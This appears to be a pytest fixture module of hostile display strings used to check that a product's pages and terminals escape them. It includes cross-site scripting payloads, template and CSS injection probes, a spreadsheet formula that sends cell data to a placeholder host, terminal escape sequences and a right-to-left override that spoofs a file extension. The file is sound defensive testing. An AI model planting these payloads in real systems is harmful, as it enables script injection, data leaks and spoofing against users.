"""Texts that try to run, to spill out of their place or to reorder what is next to them.

Every page, table and line that the product shows must survive each of them as a caption, a name,
a title, a reason or the name of a film.
"""

from __future__ import annotations

from collections.abc import Iterable

import pytest

#: What a text may set when it is run; it must stay undefined.
CANARY = "__hit"
RUN = f"window.{CANARY}=1"

#: By what each of them tries; at most 60 letters, so that a character may have it as a name.
SHORT = {
    "script": f"<script>{RUN}</script>",
    "attribute": f'"><img src=x onerror={RUN}>',
    "single quote": f"' onmouseover='{RUN}' x='",
    "template": "{{ 7*7 }}{% if 1 %}49{% endif %}${7*7}#{7*7}",
    "address": f"javascript:{RUN}",
    "style": f"</style><svg onload={RUN}>",
    "field": f"</textarea></title><img src=x onerror={RUN}>",
    "comment": f"--><script>{RUN}</script><!--",
    "character data": f"]]><script>{RUN}</script>",
    "declaration": "red;} * {display:none} body{--x:url(http://192.0.2.1/)",
    "markdown": "[a](http://192.0.2.1) ![b](http://192.0.2.1/b.png)",
    "formula": '=HYPERLINK("http://192.0.2.1?"&A1,"open")',
    "terminal markup": "[link=http://192.0.2.1]open[/link] [red]x[/] :cat:",
    "escapes": "\x1b[2J\x1b]8;;http://192.0.2.1\x07open\x1b]8;;\x07\x1b[31m",
    "controls": "nul\x00bell\x07back\x08delete\x7fnext\x85csi\x9b31m",
    "lines": "one\ntwo\r\nthree\rfour\vfive\ffive\u2028six\u2029seven",
    "override": "film \u202egpj.exe",
    "embedding": "\u202a\u202b\u202d all open",
    "isolate": "\u2066\u2067\u2068 all open",
    "closed isolate": "\u2069\u2069\u202e closes what it has not opened",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "no width": "Mi\u200bra\u200d\u2060\ufeff\u00ad Pip",
    "tower": "Z" + "\u0300\u0341\u0489" * 15,
    "word": "W" * 60,
    "joined word": "\u2060".join("W" * 30),
    "wide letters": "\ufdfd\U0001242b" * 20,
}
#: One of each kind, which pages show in every run of the tests; the long tests show all.
QUICK = frozenset(
    {"script", "attribute", "template", "controls", "override", "right to left", "tower", "word"}
)
#: One word of ten thousand letters, for texts without a limit.
LONG_WORD = "W" * 10_000

#: Text, and what pages and terminals show of it.
VISIBLE_TEXTS = (
    ("Mira waits.\n\tThe tide comes in.\r\n", "Mira waits.\n\tThe tide comes in.\r\n"),
    ("Łęcka, 林, 🦉, 👩‍👧, ميرا, שלום", "Łęcka, 林, 🦉, 👩‍👧, ميرا, שלום"),
    ("soft\u00adhyphen, no\u200bwidth, mark\u200f", "soft\u00adhyphen, no\u200bwidth, mark\u200f"),
    ("\x00\x07\x08\x1b[31m\x7f", "⟨U+0000⟩⟨U+0007⟩⟨U+0008⟩⟨U+001B⟩[31m⟨U+007F⟩"),
    ("\x85\x9b31m", "⟨U+0085⟩⟨U+009B⟩31m"),
    ("100 %\rfailed", "100 %⟨U+000D⟩failed"),
    ("one\u2028two\u2029three", "one⟨U+2028⟩two⟨U+2029⟩three"),
    ("film \u202egpj.exe", "film ⟨U+202E⟩gpj.exe"),
    ("\u202a\u202b\u202c\u202d", "⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+202D⟩"),
    ("the \u2068ميرا\u2069 of \u2067\u2066x\u2069\u2069",) * 2,
    ("open \u2066left", "open ⟨U+2066⟩left"),
    ("\u2069 end of \u2068none\u2069\u2069", "⟨U+2069⟩ end of \u2068none\u2069⟨U+2069⟩"),
    ("Z" + "\u0300" * 8 + "a", "Z" + "\u0300" * 8 + "a"),
    ("Z" + "\u0300" * 9, "Z" + "\u0300" * 8 + "⟨+1 marks⟩"),
    ("Z" + "\u0489" * 45 + "!", "Z" + "\u0489" * 8 + "⟨+37 marks⟩!"),
)


def each(kinds: Iterable[str]) -> list[object]:
    """Return the kinds of texts as parameters of a test, all but the QUICK marked as long."""
    return [kind if kind in QUICK else pytest.param(kind, marks=pytest.mark.long) for kind in kinds]
